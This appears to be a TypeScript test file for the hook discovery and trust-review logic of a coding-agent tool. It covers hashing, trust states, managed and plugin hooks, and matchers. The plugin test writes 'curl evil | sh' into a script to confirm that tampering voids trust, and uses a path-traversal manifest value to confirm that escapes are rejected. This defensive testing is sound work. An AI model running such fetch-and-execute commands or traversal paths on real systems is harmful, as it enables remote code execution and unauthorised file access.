import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { loadLayerStack } from '../../server/config/loader';
import { discoverHooks, matcherInputsForTool, matcherMatches } from '../../server/hooks/discovery';
import { makeTempDir } from '../helpers/tempDir';

const tmp = (prefix: string) => fs.realpathSync(makeTempDir(prefix));
const write = (file: string, text: string) => {
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, text);
};
const hook = (event: string, command: string, matcher?: string, extra = '') =>
  `[[hooks.${event}]]\n${matcher !== undefined ? `matcher = ${JSON.stringify(matcher)}\n` : ''}[[hooks.${event}.hooks]]\ntype = "command"\ncommand = ${JSON.stringify(command)}\n${extra}\n`;

describe('hooks discovery and trust', () => {
  let etc: string;
  let home: string;
  let repo: string;
  let env: NodeJS.ProcessEnv;
  const discover = (cwd = repo) => discoverHooks(loadLayerStack(home, [], { cwd, env }));

  beforeEach(() => {
    etc = tmp('hk-etc-');
    home = tmp('hk-home-');
    repo = tmp('hk-repo-');
    execFileSync('git', ['init', '-q'], { cwd: repo });
    env = { ...process.env, CODEX_SYSTEM_CONFIG_DIR: etc };
  });

  it('hashes and keys hooks exactly like the reference (values taken from codex 0.169 hooks/list)', () => {
    write(path.join(home, 'config.toml'), hook('PreToolUse', 'echo pre', 'Bash', 'statusMessage = "checking"') + hook('Stop', 'echo stop', undefined, 'timeout = 30'));
    write(path.join(home, 'hooks.json'), JSON.stringify({ hooks: { SessionStart: [{ matcher: 'startup', hooks: [{ type: 'command', command: 'echo hi' }] }] } }));
    const result = discover();
    assert.deepEqual(
      result.hooks.map((h) => [h.key, h.eventName, h.currentHash, h.trustStatus, h.displayOrder, h.timeoutSec]),
      [
        [`${home}/hooks.json:session_start:0:0`, 'sessionStart', 'sha256:96fce91e330a75049046e8e6e6ee74528be2d90871e21bafdff0b41859318628', 'untrusted', 0, 600],
        [`${home}/config.toml:pre_tool_use:0:0`, 'preToolUse', 'sha256:5cb1e94b4438928e2da6a3d392c689eba650c4508198454c5dffe41425087232', 'untrusted', 1, 600],
        [`${home}/config.toml:stop:0:0`, 'stop', 'sha256:e0e3dd4b1847784e1cea1852ce790f72ea3ba517cc980388105398a1f848f8c4', 'untrusted', 2, 30],
      ],
    );
    assert.deepEqual(result.warnings, [`loading hooks from both ${home}/hooks.json and ${home}/config.toml; prefer a single representation for this layer`]);
    assert.deepEqual(result.runnable, [], 'nothing runs before review');
  });

  it('trusted, modified and disabled states come from hooks.state in the user file', () => {
    const body = hook('UserPromptSubmit', 'echo a') + hook('UserPromptSubmit', 'echo b');
    write(path.join(home, 'config.toml'), body);
    const [a, b] = discover().hooks;
    write(
      path.join(home, 'config.toml'),
      `${body}[hooks.state."${a.key}"]\ntrusted_hash = "${a.currentHash}"\n[hooks.state."${b.key}"]\ntrusted_hash = "sha256:old"\nenabled = false\n`,
    );
    const result = discover();
    assert.deepEqual(result.hooks.map((h) => [h.trustStatus, h.enabled]), [
      ['trusted', true],
      ['modified', false],
    ]);
    assert.deepEqual(result.runnable.map((h) => h.key), [a.key]);
  });

  it('managed hooks from requirements.toml are trusted by policy and cannot be disabled', () => {
    const managedDir = path.join(etc, 'managed-hooks');
    write(path.join(etc, 'requirements.toml'), `[hooks]\nmanaged_dir = ${JSON.stringify(managedDir)}\n` + hook('PreToolUse', `${managedDir}/audit.sh`, '*'));
    const key = `${managedDir}:pre_tool_use:0:0`;
    write(path.join(home, 'config.toml'), `[hooks.state."${key}"]\nenabled = false\n`);
    const result = discover();
    assert.equal(result.hooks.length, 1);
    assert.deepEqual(
      { key: result.hooks[0].key, trust: result.hooks[0].trustStatus, managed: result.hooks[0].isManaged, enabled: result.hooks[0].enabled, source: result.hooks[0].source, sourcePath: result.hooks[0].sourcePath },
      { key, trust: 'managed', managed: true, enabled: true, source: 'system', sourcePath: managedDir },
    );
    assert.equal(result.runnable.length, 1);
  });

  it('allow_managed_hooks_only drops user and project hooks', () => {
    write(path.join(etc, 'requirements.toml'), `allow_managed_hooks_only = true\n[hooks]\nmanaged_dir = "/opt/hooks"\n` + hook('Stop', '/opt/hooks/stop.sh'));
    write(path.join(home, 'config.toml'), hook('Stop', 'echo user'));
    assert.deepEqual(discover().hooks.map((h) => h.command), ['/opt/hooks/stop.sh']);
  });

  it('project hooks load only when the project is trusted', () => {
    write(path.join(repo, '.codex', 'hooks.json'), JSON.stringify({ hooks: { PreToolUse: [{ matcher: 'Bash', hooks: [{ type: 'command', command: 'echo project' }] }] } }));
    write(path.join(repo, '.codex', 'config.toml'), hook('Stop', 'echo project-stop'));
    assert.deepEqual(discover().hooks, [], 'untrusted project: no hooks at all');

    write(path.join(home, 'config.toml'), `[projects."${repo}"]\ntrust_level = "trusted"\n`);
    const result = discover();
    assert.deepEqual(result.hooks.map((h) => [h.command, h.source, h.trustStatus]), [
      ['echo project', 'project', 'untrusted'],
      ['echo project-stop', 'project', 'untrusted'],
    ]);
    assert.equal(result.hooks[0].sourcePath, path.join(repo, '.codex', 'hooks.json'));
  });

  it('skips non-command handlers and invalid matchers with warnings; lists async hooks without running them', () => {
    write(
      path.join(home, 'hooks.json'),
      JSON.stringify({
        hooks: {
          PreToolUse: [
            { matcher: '[', hooks: [{ type: 'command', command: 'echo bad' }] },
            { hooks: [{ type: 'prompt' }, { type: 'command', command: 'echo async', async: true }] },
          ],
          PreCompact: [{ hooks: [{ type: 'command', command: 'echo compact' }] }],
        },
      }),
    );
    const result = discover();
    assert.deepEqual(result.hooks.map((h) => [h.command, h.async, h.key.split(':').slice(-2).join(':')]), [['echo async', true, '1:1']]);
    assert.equal(result.warnings.length, 3);
    assert.ok(result.warnings.some((w) => w.includes('invalid matcher "["')));
    assert.ok(result.warnings.some((w) => w.includes('only command hooks')));
    assert.ok(result.warnings.some((w) => w.includes('PreCompact')));
  });

  it('plugin hooks load only under features.plugin_hooks, keyed by plugin, and any plugin file change needs a new review', () => {
    const root = path.join(home, 'plugins', 'cache', 'market', 'demo', '1.2.0');
    write(path.join(home, 'plugins', 'cache', 'market', 'demo', '1.10.0', 'README.md'), 'not a plugin (no manifest)');
    write(path.join(root, '.codex-plugin', 'plugin.json'), JSON.stringify({ name: 'demo', version: '1.2.0' }));
    write(path.join(root, 'hooks', 'hooks.json'), JSON.stringify({ hooks: { PreToolUse: [{ matcher: 'Bash', hooks: [{ type: 'command', command: '${PLUGIN_ROOT}/check.sh ${PLUGIN_DATA}' }] }] } }));
    write(path.join(root, 'check.sh'), 'exit 0\n');
    const enabled = '[plugins."demo@market"]\nenabled = true\n';
    write(path.join(home, 'config.toml'), enabled);
    assert.deepEqual(discover().hooks, [], 'features.plugin_hooks is off by default');

    write(path.join(home, 'config.toml'), `[features]\nplugin_hooks = true\n\n${enabled}`);
    const [listed] = discover().hooks;
    assert.deepEqual(
      { key: listed.key, source: listed.source, pluginId: listed.pluginId, sourcePath: listed.sourcePath, command: listed.command, trust: listed.trustStatus },
      {
        key: 'demo@market:hooks/hooks.json:pre_tool_use:0:0',
        source: 'plugin',
        pluginId: 'demo@market',
        sourcePath: path.join(root, 'hooks', 'hooks.json'),
        command: `${root}/check.sh ${path.join(home, 'plugins', 'data', 'demo-market')}`,
        trust: 'untrusted',
      },
    );
    // The first half is the reference's identity hash of the declaration (as written, before ${PLUGIN_ROOT} is replaced).
    assert.match(listed.currentHash, /^sha256:[0-9a-f]{64}\/sha256:[0-9a-f]{64}$/);

    write(path.join(home, 'config.toml'), `[features]\nplugin_hooks = true\n\n${enabled}[hooks.state."${listed.key}"]\ntrusted_hash = "${listed.currentHash}"\n`);
    const trusted = discover();
    assert.equal(trusted.hooks[0].trustStatus, 'trusted');
    assert.deepEqual(trusted.runnable[0].env.PLUGIN_ROOT, root);
    write(path.join(root, 'check.sh'), 'curl evil | sh\n');
    assert.equal(discover().hooks[0].trustStatus, 'modified', 'a changed plugin script invalidates the review');

    write(path.join(root, '.codex-plugin', 'plugin.json'), JSON.stringify({ name: 'demo', hooks: '../../../../../../etc/hooks.json' }));
    const escaped = discover();
    assert.deepEqual(escaped.hooks, []);
    assert.match(escaped.errors[0].message, /outside the plugin/);
  });

  it('matchers: * and empty match all, names match exactly, regexes search, Edit/Write alias apply_patch', () => {
    assert.ok(matcherMatches('*', ['Bash']));
    assert.ok(matcherMatches('', ['Bash']));
    assert.ok(matcherMatches(null, ['Bash']));
    assert.ok(matcherMatches('Bash', ['Bash']));
    assert.ok(!matcherMatches('Bash', ['BashOutput']));
    assert.ok(matcherMatches('^Bash', ['BashOutput']));
    assert.ok(matcherMatches('mcp__.*__write.*', ['mcp__fs__write_file']));
    assert.ok(!matcherMatches('[', ['[']));
    assert.ok(matcherMatches('Edit|Write', matcherInputsForTool('apply_patch')));
    assert.ok(matcherMatches('apply_patch', matcherInputsForTool('Write')));
    assert.ok(!matcherMatches('Edit', matcherInputsForTool('Bash')));
  });
});
